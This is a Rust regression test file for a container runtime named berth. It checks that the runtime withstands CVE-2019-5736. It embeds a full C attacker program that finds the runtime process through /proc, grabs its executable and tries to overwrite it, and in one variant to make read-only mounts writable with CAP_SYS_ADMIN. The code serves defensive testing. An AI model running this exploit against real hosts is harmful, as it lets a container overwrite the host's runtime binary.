//! CVE-2019-5736: a hostile container must not be able to overwrite the runtime's binary on the
//! host through `/proc/PID/exe`.
//!
//! The attack, as published: the container's program (or a program `berth exec` runs) is a
//! script whose interpreter is `#!/proc/self/exe`. The process that execs it is still the
//! runtime (a clone of berth), so the kernel runs the runtime's own file as the interpreter,
//! inside the container, as a dumpable process. An attacker in the container finds that process
//! in /proc, opens its `exe` with `O_PATH`, waits for it to exit (until then writing fails with
//! ETXTBSY) and reopens the file for writing through `/proc/self/fd/N`.
//!
//! Here the attacker is a static C program compiled at test time. The interpreting berth
//! process is held alive until the attacker has its handle: its stdout is a pipe the test has
//! filled, so printing its help (`#!/proc/self/exe --help`) blocks until the test drains the
//! pipe, which it does only once the attacker reports the grab. The test fails if the grab did
//! not happen, so it cannot pass because the attacker was too slow. Everything runs a *copy* of
//! the berth binary, whose bytes must be unchanged afterwards.
// Test helpers unwrap too: a panic is the failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{berth_bin, require_root, unique_id, Bundle, Scratch};
use std::io::Read;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// The attacker: `attacker REPORT MARKER`. Scans /proc for a process whose command line is
/// `/proc/self/exe ... MARKER` (the kernel's argv for the `#!/proc/self/exe` script MARKER), opens
/// its exe with O_PATH, reports "grabbed", then retries opening it for writing until it is no
/// longer busy and writes. Every step is reported as one line appended to REPORT.
const ATTACKER_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/mount.h>

static const char *report_path;

static void report(const char *fmt, ...) {
    char line[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof line - 2) n = sizeof line - 2;
    line[n++] = '\n';
    int fd = open(report_path, O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (fd < 0) return;
    if (write(fd, line, n) < 0) {}
    fsync(fd);
    close(fd);
}

/* 1 when /proc/PID/cmdline is "/proc/self/exe" ... MARKER */
static int is_target(const char *pid, const char *marker) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    if (strcmp(buf, "/proc/self/exe") != 0) return 0;
    for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1)
        if (strcmp(buf + i, marker) == 0) return 1;
    return 0;
}

/* Waits until `fd` is no longer busy (the process running it has exited), then tries to
   write to and truncate the file through /proc/self/fd. */
static void attack(int fd, const char *via) {
    char fdpath[64];
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
    int w;
    long busy = 0;
    for (;;) {
        w = open(fdpath, O_WRONLY);
        if (w >= 0 || errno != ETXTBSY) break;
        busy++;
        usleep(1000);
    }
    if (w < 0) {
        report("%s: open for writing refused after %ld busy tries: errno=%d (%s)", via, busy,
               errno, strerror(errno));
        return;
    }
    const char payload[] = "#!/bin/sh\necho the host runtime was overwritten\n";
    ssize_t n = pwrite(w, payload, sizeof payload - 1, 0);
    if (n > 0) {
        report("wrote %zd bytes into the runtime's binary through %s", n, via);
        return;
    }
    int write_errno = errno;
    if (ftruncate(w, 0) == 0) {
        report("truncated the runtime's binary through %s", via);
        return;
    }
    report("%s: write refused: errno=%d (%s); truncate refused: errno=%d (%s)", via,
           write_errno, strerror(write_errno), errno, strerror(errno));
}

/* The target's /proc/PID/map_files entry for the same file as its exe (CAP_SYS_ADMIN). */
static int grab_map_files(const char *pid, int exe) {
    char dir[64], exe_link[4096] = {0}, path[4200], link[4096];
    snprintf(dir, sizeof dir, "/proc/self/fd/%d", exe);
    if (readlink(dir, exe_link, sizeof exe_link - 1) < 0) return -1;
    snprintf(dir, sizeof dir, "/proc/%s/map_files", pid);
    DIR *d = opendir(dir);
    if (!d) { report("opendir %s: %s", dir, strerror(errno)); return -1; }
    struct dirent *e;
    int fd = -1;
    while ((e = readdir(d)) != NULL && fd < 0) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n < 0) continue;
        link[n] = 0;
        if (strcmp(link, exe_link) != 0) continue;
        fd = open(path, O_PATH);
        if (fd >= 0) report("grabbed map_files %s", e->d_name);
        else report("open map_files %s: %s", e->d_name, strerror(errno));
    }
    closedir(d);
    return fd;
}

/* With CAP_SYS_ADMIN: try to make the exe's mount writable again, or get a writable clone. */
static int try_unwrap(int exe) {
    struct mount_attr a;
    memset(&a, 0, sizeof a);
    a.attr_clr = MOUNT_ATTR_RDONLY;
    int r = syscall(SYS_mount_setattr, exe, "", AT_EMPTY_PATH, &a, sizeof a);
    report("unwrap: mount_setattr clearing rdonly: %s", r == 0 ? "done" : strerror(errno));
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", exe);
    r = mount(NULL, p, NULL, MS_REMOUNT | MS_BIND, NULL);
    report("unwrap: remount read-write: %s", r == 0 ? "done" : strerror(errno));
    int c = syscall(SYS_open_tree, exe, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
    report("unwrap: open_tree clone: %s", c >= 0 ? "done" : strerror(errno));
    if (c >= 0) {
        r = syscall(SYS_mount_setattr, c, "", AT_EMPTY_PATH, &a, sizeof a);
        report("unwrap: clone made writable: %s", r == 0 ? "done" : strerror(errno));
    }
    return c;
}

int main(int argc, char **argv) {
    if (argc != 3 && argc != 4) return 2;
    report_path = argv[1];
    const char *marker = argv[2];
    int unwrap = argc == 4 && strcmp(argv[3], "unwrap") == 0;
    char target[32] = "";
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    report("started pid=%s", self);
    int exe = -1;
    while (exe < 0) {
        DIR *d = opendir("/proc");
        if (!d) { report("opendir /proc: %s", strerror(errno)); return 1; }
        struct dirent *e;
        while ((e = readdir(d)) != NULL && exe < 0) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0)
                continue;
            if (!is_target(e->d_name, marker)) continue;
            char path[64], link[4096] = {0};
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            exe = open(path, O_PATH);
            if (exe < 0) {
                report("open %s O_PATH: %s", path, strerror(errno));
                continue;
            }
            if (readlink(path, link, sizeof link - 1) < 0) strcpy(link, "?");
            snprintf(target, sizeof target, "%s", e->d_name);
            report("grabbed pid=%s exe=%s", e->d_name, link);
        }
        closedir(d);
        if (exe < 0) usleep(1000);
    }
    int mapfd = -1, clonefd = -1;
    if (unwrap) {
        mapfd = grab_map_files(target, exe);
        clonefd = try_unwrap(exe);
    }
    attack(exe, "exe");
    if (mapfd >= 0) attack(mapfd, "map_files");
    if (clonefd >= 0) attack(clonefd, "open_tree clone");
    report("done");
    return 0;
}
"##;

/// How long the test waits for the attacker before giving up (a hang breaker, not a timing
/// assertion: giving up fails the test).
const PATIENCE: Duration = Duration::from_secs(120);

/// Compiles the attacker statically into `dir`.
fn build_attacker(dir: &Path) -> PathBuf {
    let src = dir.join("attacker.c");
    let bin = dir.join("attacker");
    std::fs::write(&src, ATTACKER_C).unwrap();
    let out = Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .output()
        .expect("gcc (with libc6-dev, for -static) is needed to build the attacker");
    assert!(
        out.status.success(),
        "gcc -static failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    bin
}

/// Copies the host files a dynamically linked berth needs (its ELF interpreter and libraries,
/// as `ldd` lists them) into the rootfs, so the kernel can run it there as it would in an
/// image that ships glibc. Nothing to do for a static berth.
fn install_runtime_libs(berth: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(berth).output().expect("ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let path = match line.split_once("=>") {
            Some((_, right)) => right.split_whitespace().next(),
            None => line.split_whitespace().next(),
        };
        let Some(path) = path.filter(|p| p.starts_with('/')) else {
            continue;
        };
        let dest = rootfs.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
        std::fs::copy(path, &dest).unwrap();
    }
}

/// A pipe whose buffer is full: whoever gets the write end blocks on its first write until
/// the test reads from `read`.
struct FullPipe {
    read: OwnedFd,
    write: OwnedFd,
}

fn full_pipe() -> FullPipe {
    let (read, write) = nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC).unwrap();
    // The smallest buffer (one page) fills quickest.
    let _ = nix::fcntl::fcntl(write.as_raw_fd(), nix::fcntl::FcntlArg::F_SETPIPE_SZ(4096));
    nix::fcntl::fcntl(
        write.as_raw_fd(),
        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
    )
    .unwrap();
    let chunk = [b'.'; 512];
    loop {
        match nix::unistd::write(&write, &chunk) {
            Ok(_) => continue,
            Err(nix::errno::Errno::EAGAIN) => break,
            Err(e) => panic!("filling the pipe: {e}"),
        }
    }
    // Back to blocking, so the held process waits instead of failing with EAGAIN.
    nix::fcntl::fcntl(
        write.as_raw_fd(),
        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::empty()),
    )
    .unwrap();
    FullPipe { read, write }
}

/// Reads the pipe to EOF in the background (once the held process may go on).
fn drain(read: OwnedFd) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut f = std::fs::File::from(read);
        let mut buf = [0u8; 4096];
        while let Ok(n) = f.read(&mut buf) {
            if n == 0 {
                break;
            }
        }
    })
}

/// The copy of berth the attack targets, and its bytes before the attack.
struct Victim {
    bin: PathBuf,
    original: Vec<u8>,
}

fn victim(dir: &Path) -> Victim {
    let bin = dir.join("berth-copy");
    std::fs::copy(berth_bin(), &bin).unwrap();
    let original = std::fs::read(&bin).unwrap();
    Victim { bin, original }
}

/// How berth seals its executable: its default (a read-only mount) or the memfd fallback; or
/// berth itself runs from a sealed memfd copy (as an embedder that sealed itself), so it starts
/// the container's processes through a forked intermediate rather than a launcher.
#[derive(Clone, Copy)]
enum Seal {
    Default,
    Memfd,
    SealedRuntime,
}

/// A sealed memfd copy of `bin`, inherited across exec (executed through /proc/self/fd/N).
fn sealed_copy(bin: &Path) -> OwnedFd {
    use std::io::Write;
    use std::os::fd::FromRawFd;
    // SAFETY: a valid NUL-terminated name; the fd returned is ours.
    let fd = unsafe { libc::memfd_create(c"berth-sealed".as_ptr(), libc::MFD_ALLOW_SEALING) };
    assert!(fd >= 0, "memfd_create: {}", std::io::Error::last_os_error());
    // SAFETY: fd was just returned by memfd_create and is owned by nothing else.
    let mut f = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd) });
    f.write_all(&std::fs::read(bin).unwrap()).unwrap();
    let seals = libc::F_SEAL_SEAL | libc::F_SEAL_SHRINK | libc::F_SEAL_GROW | libc::F_SEAL_WRITE;
    // SAFETY: fcntl on an fd we own; no memory is passed.
    let sealed = unsafe { libc::fcntl(f.as_raw_fd(), libc::F_ADD_SEALS, seals) };
    assert_eq!(
        sealed,
        0,
        "F_ADD_SEALS: {}",
        std::io::Error::last_os_error()
    );
    OwnedFd::from(f)
}

/// `BERTH --root STATE ARGS...` with the given stdout; stderr is captured in a file.
fn berth_with(
    bin: &Path,
    seal: Seal,
    b: &Bundle,
    args: &[&str],
    stdout: Stdio,
) -> (std::process::ExitStatus, String) {
    let err_path = b.scratch.0.join(format!("stderr-{}", unique_id("e")));
    let sealed = matches!(seal, Seal::SealedRuntime).then(|| sealed_copy(bin));
    let mut cmd = match &sealed {
        Some(fd) => Command::new(format!("/proc/self/fd/{}", fd.as_raw_fd())),
        None => Command::new(bin),
    };
    if let Seal::Memfd = seal {
        cmd.env("BERTH_EXE_SEAL", "memfd");
    }
    let status = cmd
        .arg("--root")
        .arg(&b.state_root)
        .args(args)
        .stdin(Stdio::null())
        .stdout(stdout)
        .stderr(std::fs::File::create(&err_path).unwrap())
        .status()
        .unwrap();
    let err = std::fs::read_to_string(&err_path).unwrap_or_default();
    (status, err)
}

fn devnull() -> Stdio {
    Stdio::from(std::fs::File::create("/dev/null").unwrap())
}

/// Waits until the report has a line starting with one of `prefixes`; the report so far.
fn wait_for(report: &Path, prefixes: &[&str]) -> (bool, String) {
    let start = Instant::now();
    loop {
        let text = std::fs::read_to_string(report).unwrap_or_default();
        if text
            .lines()
            .any(|l| prefixes.iter().any(|p| l.starts_with(p)))
        {
            return (true, text);
        }
        if start.elapsed() > PATIENCE {
            return (false, text);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The bundle: busybox, the attacker, the `#!/proc/self/exe --help` script at `/MARKER`, and
/// what the victim needs to run in the rootfs.
fn bundle(args: &[&str], victim: &Victim, attacker: &Path, marker: &str) -> Bundle {
    let b = Bundle::busybox(args);
    let rootfs = b.dir.join("rootfs");
    std::fs::copy(attacker, rootfs.join("attacker")).unwrap();
    let script = rootfs.join(marker.trim_start_matches('/'));
    std::fs::write(&script, "#!/proc/self/exe --help\n").unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    install_runtime_libs(&victim.bin, &rootfs);
    b
}

/// What the attack did, checked: the grab happened, nothing was written, the bytes are intact.
fn assert_defended(report: &Path, victim: &Victim, found: bool) {
    let (finished, text) = wait_for(report, &["done"]);
    let grabbed = text.lines().any(|l| l.starts_with("grabbed"));
    assert!(
        found && grabbed,
        "the attacker never got hold of the runtime's exe, so this run proves nothing: {text}"
    );
    assert!(finished, "the attacker did not finish: {text}");
    assert!(
        !text.contains("\nwrote") && !text.contains("\ntruncated") && !text.contains(": done"),
        "the container wrote into the runtime's binary: {text}"
    );
    let now = std::fs::read(&victim.bin).unwrap();
    assert!(
        now == victim.original,
        "the runtime's binary on the host changed: {text}"
    );
    eprintln!("attack report:\n{text}");
}

/// The container's own program is the `#!/proc/self/exe` script: the init execs the runtime's
/// file. The attacker is `exec`'d into the created container before `start`; the container
/// shares the host's pid namespace so the attacker outlives the init and can wait for it.
#[test]
fn proc_self_exe_entrypoint_cannot_overwrite_the_runtime() {
    if require_root("proc_self_exe_entrypoint_cannot_overwrite_the_runtime") {
        entrypoint_attack(Seal::Default);
    }
}

/// The same with the sealed memfd copy (the fallback where the mount API cannot be used).
#[test]
fn proc_self_exe_entrypoint_cannot_overwrite_the_runtime_memfd() {
    if require_root("proc_self_exe_entrypoint_cannot_overwrite_the_runtime_memfd") {
        entrypoint_attack(Seal::Memfd);
    }
}

/// The same with berth running from a sealed memfd (no launcher: a forked intermediate).
#[test]
fn proc_self_exe_entrypoint_cannot_overwrite_a_runtime_running_sealed() {
    if require_root("proc_self_exe_entrypoint_cannot_overwrite_a_runtime_running_sealed") {
        entrypoint_attack(Seal::SealedRuntime);
    }
}

fn entrypoint_attack(seal: Seal) {
    let work = Scratch::new("cve5736-entry");
    let attacker = build_attacker(&work.0);
    let victim = victim(&work.0);
    let marker = format!("/entry-{}", unique_id("m"));
    let b = bundle(&[&marker], &victim, &attacker, &marker);
    b.update_config(|c| {
        let ns = c["linux"]["namespaces"].as_array_mut().unwrap();
        ns.retain(|n| n["type"] != "pid");
    });
    let id = unique_id("cve5736-entry");
    let bundle_dir = b.dir.to_string_lossy().to_string();
    let pipe = full_pipe();
    let (st, err) = berth_with(
        &victim.bin,
        seal,
        &b,
        &["create", "--bundle", &bundle_dir, &id],
        Stdio::from(pipe.write.try_clone().unwrap()),
    );
    assert!(st.success(), "create: {err}");
    let report = b.dir.join("rootfs/report");
    let (st, err) = berth_with(
        &victim.bin,
        seal,
        &b,
        &["exec", "-d", &id, "/attacker", "/report", &marker],
        devnull(),
    );
    assert!(st.success(), "exec of the attacker: {err}");
    let (started, text) = wait_for(&report, &["started"]);
    assert!(started, "the attacker did not start: {text}");
    let (st, err) = berth_with(&victim.bin, seal, &b, &["start", &id], devnull());
    assert!(st.success(), "start: {err}");
    drop(pipe.write);
    // The init now runs the runtime's file for the script, blocked printing its help.
    let (found, _) = wait_for(&report, &["grabbed", "open"]);
    let drainer = drain(pipe.read);
    assert_defended(&report, &victim, found);
    // Clean up with the pristine binary, never the possibly overwritten copy.
    let _ = Command::new(berth_bin())
        .arg("--root")
        .arg(&b.state_root)
        .args(["delete", "--force", &id])
        .status();
    drainer.join().unwrap();
}

/// `berth exec` runs the `#!/proc/self/exe` script in a running container whose init is the
/// attacker (in the container's own pid namespace).
#[test]
fn proc_self_exe_exec_cannot_overwrite_the_runtime() {
    if require_root("proc_self_exe_exec_cannot_overwrite_the_runtime") {
        exec_attack(Seal::Default);
    }
}

/// The same with the sealed memfd copy.
#[test]
fn proc_self_exe_exec_cannot_overwrite_the_runtime_memfd() {
    if require_root("proc_self_exe_exec_cannot_overwrite_the_runtime_memfd") {
        exec_attack(Seal::Memfd);
    }
}

/// A privileged container (CAP_SYS_ADMIN): the attacker also grabs the file through
/// /proc/PID/map_files, and tries to make the read-only mount writable again (mount_setattr,
/// a read-write remount, a writable open_tree clone) before writing through each handle.
#[test]
fn proc_self_exe_exec_with_cap_sys_admin_cannot_unwrap_the_mount() {
    if require_root("proc_self_exe_exec_with_cap_sys_admin_cannot_unwrap_the_mount") {
        exec_attack_with(Seal::Default, true);
    }
}

/// The same with berth running from a sealed memfd (no launcher: a forked intermediate).
#[test]
fn proc_self_exe_exec_cannot_overwrite_a_runtime_running_sealed() {
    if require_root("proc_self_exe_exec_cannot_overwrite_a_runtime_running_sealed") {
        exec_attack(Seal::SealedRuntime);
    }
}

fn exec_attack(seal: Seal) {
    exec_attack_with(seal, false);
}

fn exec_attack_with(seal: Seal, privileged: bool) {
    let work = Scratch::new("cve5736-exec");
    let attacker = build_attacker(&work.0);
    let victim = victim(&work.0);
    let marker = format!("/entry-{}", unique_id("m"));
    let mut args = vec!["/attacker", "/report", &marker];
    if privileged {
        args.push("unwrap");
    }
    let b = bundle(&args, &victim, &attacker, &marker);
    if privileged {
        b.update_config(|c| {
            let caps = &mut c["process"]["capabilities"];
            for set in ["bounding", "effective", "permitted"] {
                if let Some(list) = caps[set].as_array_mut() {
                    list.push("CAP_SYS_ADMIN".into());
                }
            }
        });
    }
    let id = unique_id("cve5736-exec");
    let bundle_dir = b.dir.to_string_lossy().to_string();
    let (st, err) = berth_with(
        &victim.bin,
        seal,
        &b,
        &["run", "-d", "--bundle", &bundle_dir, &id],
        devnull(),
    );
    assert!(st.success(), "run: {err}");
    let report = b.dir.join("rootfs/report");
    let (started, text) = wait_for(&report, &["started"]);
    assert!(started, "the attacker did not start: {text}");
    let pipe = full_pipe();
    let (st, err) = berth_with(
        &victim.bin,
        seal,
        &b,
        &["exec", "-d", &id, &marker],
        Stdio::from(pipe.write.try_clone().unwrap()),
    );
    assert!(st.success(), "exec of the script: {err}");
    drop(pipe.write);
    let (found, _) = wait_for(&report, &["grabbed", "open"]);
    let drainer = drain(pipe.read);
    assert_defended(&report, &victim, found);
    let _ = Command::new(berth_bin())
        .arg("--root")
        .arg(&b.state_root)
        .args(["delete", "--force", &id])
        .status();
    drainer.join().unwrap();
}
